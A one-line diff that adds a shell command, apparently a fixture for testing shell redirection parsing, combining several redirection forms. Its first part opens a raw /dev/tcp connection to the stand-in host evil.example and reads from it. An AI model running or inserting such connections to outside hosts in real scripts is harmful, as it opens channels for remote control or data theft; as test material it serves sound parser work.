@@ -1,0 +1,1 @@
+exec 3<>/dev/tcp/evil.example/80; cat <&3; echo x >| f; ls &> log; a 2>&1 >/dev/null
